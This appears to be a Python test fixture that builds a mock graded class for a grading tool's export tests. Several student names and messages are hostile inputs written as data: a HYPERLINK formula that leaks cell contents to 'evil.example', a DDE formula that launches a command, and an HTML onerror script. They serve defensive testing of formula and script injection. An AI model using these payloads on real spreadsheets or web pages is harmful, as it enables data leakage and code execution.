"""A small graded class, written as a grades folder, for the export tests.

Two of its folder names are formulas (``=HYPERLINK(...)``, ``@SUM(1)``) and two of its messages
are hostile (HTML, a formula): what a submission controls must come out as text.
"""

from pathlib import Path

from grader.report import write_report
from grader.scoring import Report, StudentResult, TopicResult
from grader.scoring import TestResult as Outcome  # not collected as a test class

HYPERLINK = '=HYPERLINK("evil.example?leak="&A1,"click")'  # a folder name: no "/"
SUM = "@SUM(1)"
IMG = "<img src=x onerror=alert(1)>"
CALC = "=cmd|' /C calc'!A0"

CLASS = Report("demo", "cpu", students=(
    StudentResult("ada", (
        TopicResult("softmax", "graded", 10.0, (
            Outcome("test_rows_sum_to_one", "softmax", "public", True, 4.0),
            Outcome("test_large_logits", "softmax", "hidden", False, 6.0, f"expected 1.0, got {IMG}\nmore lines"))),
        TopicResult("kfold", "graded", 10.0, (Outcome("test_folds", "get_k_fold_data", "public", True, 10.0),)))),
    StudentResult("ben", (
        TopicResult("softmax", "graded", 10.0, (
            Outcome("test_rows_sum_to_one", "softmax", "public", True, 5.0),
            Outcome("test_large_logits", "softmax", "hidden", True, 5.0))),
        TopicResult("kfold", "import_error", 10.0, (), f"ImportError: {CALC}"))),
    StudentResult(HYPERLINK, (
        TopicResult("softmax", "graded", 10.0, (
            Outcome("test_rows_sum_to_one", "softmax", "public", True, 2.5),
            Outcome("test_large_logits", "softmax", "public", False, 7.5, "got nan"))),
        TopicResult("kfold", "timeout", 10.0, (), "took over 60 s"))),
    StudentResult(SUM, (
        TopicResult("softmax", "missing", 10.0, (), "no softmax.py"),
        TopicResult("kfold", "graded", 10.0, (
            Outcome("test_folds", "get_k_fold_data", "public", True, 7.25),
            Outcome("test_last_fold", "get_k_fold_data", "hidden", False, 2.75, "the last fold is empty")))))))

# What gradebook.json says each folder earned: the numbers every export must carry.
SCORES = {s.id: {t.id: t.score for t in s.topics} for s in CLASS.students}


def grades_folder(tmp_path: Path, report: Report = CLASS) -> Path:
    """``report`` written as ``dlgrade grade --out`` writes it; returns the folder."""
    grades = tmp_path / "grades"
    write_report(report, grades)
    return grades
